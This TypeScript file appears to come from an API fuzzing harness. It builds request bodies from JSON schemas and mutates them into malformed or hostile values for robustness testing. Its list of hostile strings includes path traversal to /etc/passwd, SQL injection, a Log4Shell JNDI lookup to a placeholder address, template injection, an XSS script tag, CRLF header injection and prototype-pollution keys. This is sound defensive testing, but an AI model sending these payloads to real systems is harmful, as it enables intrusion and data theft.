// Values for requests: what a schema asks for, and what no schema asks for.
import type { Contract, Schema } from './contract.ts';
import type { Dice } from './dice.ts';

/** JSON text that JSON.stringify cannot write, spliced into a body where this marker stands. */
export const RAW = '\u{F0000}raw:';

const TEXTS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udc00x',
  '\ufeff',
  '😀'.repeat(50),
  'e\u0301'.repeat(200),
  '\u202e gnirts',
  '../../../../etc/passwd',
  '..\\..\\windows',
  "' OR '1'='1",
  '"; DROP TABLE job; --',
  '%00',
  '%',
  '${jndi:ldap://192.0.2.1/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  'a\r\nSet-Cookie: x=1',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'NaN',
  '-1',
  '1e999',
  'sha256:',
  `sha256:${'0'.repeat(64)}`,
  '2026-13-45T99:99:99Z',
  '9999-12-31T23:59:59.999999999Z',
  '-271821-04-20T00:00:00.000Z',
  'x'.repeat(300),
  'x'.repeat(70_000),
  '\ud83d\ude00'.repeat(20_000),
];
const NUMBERS: readonly unknown[] = [
  0,
  -0,
  -1,
  1,
  0.5,
  1e-300,
  5e-324,
  1e300,
  1.7976931348623157e308,
  2 ** 31 - 1,
  2 ** 31,
  2 ** 32,
  2 ** 53,
  2 ** 63,
  -(2 ** 63),
  `${RAW}1e999`,
  `${RAW}-1e999`,
  `${RAW}9007199254740993`,
  `${RAW}1${'0'.repeat(400)}`,
  `${RAW}0.1e-5000`,
];
const NAMES: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  'toJSON',
  'length',
  'extra',
  '',
  '\u0000',
  '😀',
  '$ref',
];

function nested(depth: number, dice: Dice): unknown {
  const [open, close] = dice.pick([
    ['[', ']'],
    ['{"a":', '}'],
  ]);
  return `${RAW}${open.repeat(depth)}1${close.repeat(depth)}`;
}

export const hostileText = (dice: Dice): string => dice.pick(TEXTS);

export function hostileValue(dice: Dice): unknown {
  switch (dice.below(10)) {
    case 0:
      return null;
    case 1:
      return dice.chance(0.5);
    case 2:
    case 3:
      return dice.pick(NUMBERS);
    case 4:
    case 5:
      return hostileText(dice);
    case 6:
      return dice.pick([[], {}, [[]], [null], { a: { b: {} } }]);
    case 7:
      return nested(dice.pick([5, 63, 64, 65, 1000, 20_000]), dice);
    case 8:
      return new Array(dice.pick([2, 600, 20_000])).fill(dice.pick([0, 'x', null]));
    default:
      return { [dice.pick(NAMES)]: hostileText(dice) };
  }
}

/**
 * What fits by the meaning of a name, such as an id that exists; undefined where nothing is known. `parent` is the name of the
 * object that it stands in.
 */
export type Hint = (name: string, dice: Dice, at: { parent: string; type: string | undefined }) => unknown;

/** Where a value stands. */
interface Place {
  name: string;
  parent: string;
  depth: number;
}
const TOP: Place = { name: '', parent: '', depth: 0 };
/** Of names that a schema does not require; more where it requires none, as of an edit. */
const OPTIONAL_SHARE = 0.2;
const EDIT_SHARE = 0.4;

/** Values that schemas take, as far as a schema can say it. */
export class Fitting {
  readonly #contract: Contract;
  readonly #hint: Hint;
  constructor(contract: Contract, hint: Hint) {
    this.#contract = contract;
    this.#hint = hint;
  }

  value(schema: Schema, dice: Dice, place: Place = TOP): unknown {
    const at = this.#contract.resolve(schema);
    const branches = at.anyOf ?? at.oneOf;
    if (branches !== undefined) return this.value(dice.pick(branches), dice, place);
    if (at.allOf !== undefined)
      return Object.assign({}, ...at.allOf.map((part) => this.value(part, dice, place))) as object;
    const type = Array.isArray(at.type) ? dice.pick(at.type) : at.type;
    const known = type === 'null' ? null : this.#hint(place.name, dice, { parent: place.parent, type });
    if (known !== undefined) return known;
    if (at.const !== undefined) return at.const;
    if (at.enum !== undefined) return dice.pick(at.enum);
    return this.#ofType(type, at, dice, place);
  }

  #ofType(type: string | undefined, at: Schema, dice: Dice, place: Place): unknown {
    switch (type) {
      case 'object':
        return this.#object(at, dice, place);
      case 'array': {
        const count = place.depth > 4 ? 0 : (at.minItems ?? 0) + dice.below(3);
        const inside = { ...place, depth: place.depth + 1 };
        return Array.from({ length: count }, () => this.value(at.items ?? {}, dice, inside));
      }
      case 'integer':
      case 'number': {
        const low = at.minimum ?? at.exclusiveMinimum ?? 0;
        const high = Math.min(at.maximum ?? 100, low + 100);
        return type === 'integer'
          ? Math.ceil(low) + dice.below(Math.max(1, Math.floor(high - low)))
          : low + 0.5 * Math.min(1, high - low);
      }
      case 'boolean':
        return dice.chance(0.5);
      case 'string':
        return fittingText(at, dice);
      default:
        return dice.pick([1, 'x', true, null]);
    }
  }

  #object(at: Schema, dice: Dice, { name: parent, depth }: Place): object {
    const made: Record<string, unknown> = {};
    const share = (at.required ?? []).length > 0 ? OPTIONAL_SHARE : EDIT_SHARE;
    for (const [name, inner] of Object.entries(at.properties ?? {})) {
      const isRequired = at.required?.includes(name) ?? false;
      if (isRequired || (depth < 4 && dice.chance(share)))
        made[name] = this.value(inner, dice, { name, parent, depth: depth + 1 });
    }
    return made;
  }
}

function fittingText(at: Schema, dice: Dice): string {
  if (at.format === 'date-time') return new Date(Date.UTC(2030, 0, 1 + dice.below(100))).toISOString();
  if (at.pattern?.includes('sha256') === true) return `sha256:${'ab'.repeat(32)}`;
  const length = Math.max(at.minLength ?? 1, Math.min(at.maxLength ?? 8, 1 + dice.below(8)));
  return Array.from({ length }, () => dice.pick([...'abcxyz019'])).join('');
}

/** One change somewhere in a JSON value: another type, a missing or unknown name, a doubled list. */
export function mutated(value: unknown, dice: Dice): unknown {
  if (typeof value !== 'object' || value === null || dice.chance(0.15)) return hostileValue(dice);
  if (Array.isArray(value)) {
    if (value.length === 0 || dice.chance(0.3)) return [...(value as unknown[]), hostileValue(dice)];
    const at = dice.below(value.length);
    return value.map((item, k) => (k === at ? mutated(item, dice) : (item as unknown)));
  }
  const entries = Object.entries(value);
  const kind = dice.below(5);
  if (kind === 0 || entries.length === 0)
    return Object.fromEntries([...entries, [dice.pick(NAMES), hostileValue(dice)]]);
  const at = dice.below(entries.length);
  if (kind === 1) return Object.fromEntries(entries.filter((_entry, k) => k !== at));
  return Object.fromEntries(
    entries.map(([name, item], k) => [name, k === at ? mutated(item, dice) : (item as unknown)]),
  );
}

/** JSON with the raw pieces put in. */
export function toJsonText(value: unknown): string {
  const text = JSON.stringify(value) ?? 'null';
  const marker = JSON.stringify(RAW).slice(1, -1);
  return text.replace(new RegExp(`"${marker}((?:[^"\\\\]|\\\\.)*)"`, 'g'), (_whole, inner: string) =>
    inner.replaceAll('\\"', '"'),
  );
}
